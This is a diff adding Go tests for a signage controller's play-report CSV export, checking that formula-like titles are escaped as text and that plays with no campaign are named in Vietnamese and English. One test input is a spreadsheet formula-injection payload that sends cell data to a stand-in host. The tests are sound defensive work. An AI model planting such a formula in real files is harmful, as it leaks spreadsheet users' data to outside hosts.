@@ -9,6 +9,7 @@ import (
 
 	"github.com/pano-signage/pano/controller/internal/store"
 	"github.com/pano-signage/pano/protocol"
+	"github.com/pano-signage/pano/web"
 )
 
 func TestPlayReportIsScopedAndExportsCSV(t *testing.T) {
@@ -60,4 +61,74 @@ func TestPlayReportIsScopedAndExportsCSV(t *testing.T) {
 		t.Fatalf("English CSV:\n%s", body)
 	}
 	must(t, v.do(v.session(v.user(store.RoleApprover, v.unitA.ID)), "GET", "/reports/plays?group_by=password", nil), 400)
+}
+
+// TestPlayReportCSVIsSafeAndNamesTheUnassigned checks that a title typed
+// as a formula stays text in the CSV, and that plays of no campaign are
+// named in words, in the CSV's language, with no ID.
+func TestPlayReportCSVIsSafeAndNamesTheUnassigned(t *testing.T) {
+	v := newEnv(t)
+	ctx := context.Background()
+	titles := []string{`=HYPERLINK("http://x.example/?"&A1,"bấm")`, "+1", "-2", "@SUM(A1)", "\tTab", "Thông báo thường"}
+	var recs []protocol.PlayRecord
+	t0 := time.Date(2026, 11, 25, 1, 0, 0, 0, time.UTC)
+	for i, title := range titles {
+		m, err := v.st.CreateMedia(ctx, store.System, store.NewMedia{UnitID: v.unitA.ID, Title: title, Kind: store.KindText, Body: "Nội dung"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		v.moveMedia(m.ID, store.StatusApproved)
+		start := t0.Add(time.Duration(i) * time.Minute)
+		recs = append(recs, protocol.PlayRecord{ID: fmt.Sprint("s", i), Display: 1, Media: m.ID, Start: start, End: start.Add(time.Duration(10+i) * time.Second)})
+	}
+	if _, err := v.st.AddPlayRecords(ctx, 1, recs); err != nil {
+		t.Fatal(err)
+	}
+	approver := v.session(v.user(store.RoleApprover, v.unitA.ID))
+	body := string(must(t, v.do(approver, "GET", "/reports/plays?group_by=media&format=csv", nil), 200).Body)
+	cells := map[string]bool{}
+	for _, line := range strings.Split(strings.TrimPrefix(body, "\ufeff"), "\n")[1:] {
+		if line == "" {
+			continue
+		}
+		name := line
+		if strings.HasPrefix(line, `"`) { // quoted by encoding/csv
+			name = line[1 : strings.Index(line[1:], `",`)+1]
+			name = strings.ReplaceAll(name, `""`, `"`)
+		} else {
+			name = line[:strings.Index(line, ",")]
+		}
+		cells[name] = true
+	}
+	for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"bấm")`, "'+1", "'-2", "'@SUM(A1)", "'\tTab", "Thông báo thường"} {
+		if !cells[want] {
+			t.Errorf("no CSV cell %q in:\n%s", want, body)
+		}
+	}
+
+	// None of these plays has a campaign: one row, named in words, no ID.
+	for lang, want := range map[string]string{"vi": "(không thuộc chiến dịch nào),,6,", "en": "(no campaign),,6,"} {
+		body := string(must(t, v.do(approver, "GET", "/reports/plays?group_by=campaign&format=csv&lang="+lang, nil), 200).Body)
+		if lines := strings.Split(body, "\n"); len(lines) < 2 || !strings.HasPrefix(lines[1], want) {
+			t.Errorf("%s CSV by campaign:\n%s", lang, body)
+		}
+	}
+	var byTheme reportOut
+	must(t, v.do(approver, "GET", "/reports/plays?group_by=theme", nil), 200).json(t, &byTheme)
+	if len(byTheme.Items) != 1 || byTheme.Items[0].Key != "" || byTheme.Items[0].Plays != 6 {
+		t.Fatalf("by theme: %+v", byTheme.Items)
+	}
+}
+
+// TestReportNoneWordsMatchThePage checks that the CSV names the plays of
+// no campaign, theme or unit as the page does.
+func TestReportNoneWordsMatchThePage(t *testing.T) {
+	for lang, h := range csvHeads {
+		msgs := web.Messages(web.Lang(lang))
+		for _, by := range []string{"campaign", "theme", "unit"} {
+			if got, want := h.none[by], msgs["rep_none_"+by]; got == "" || got != want {
+				t.Errorf("%s: the CSV says %q for no %s, the page %q", lang, got, by, want)
+			}
+		}
+	}
 }
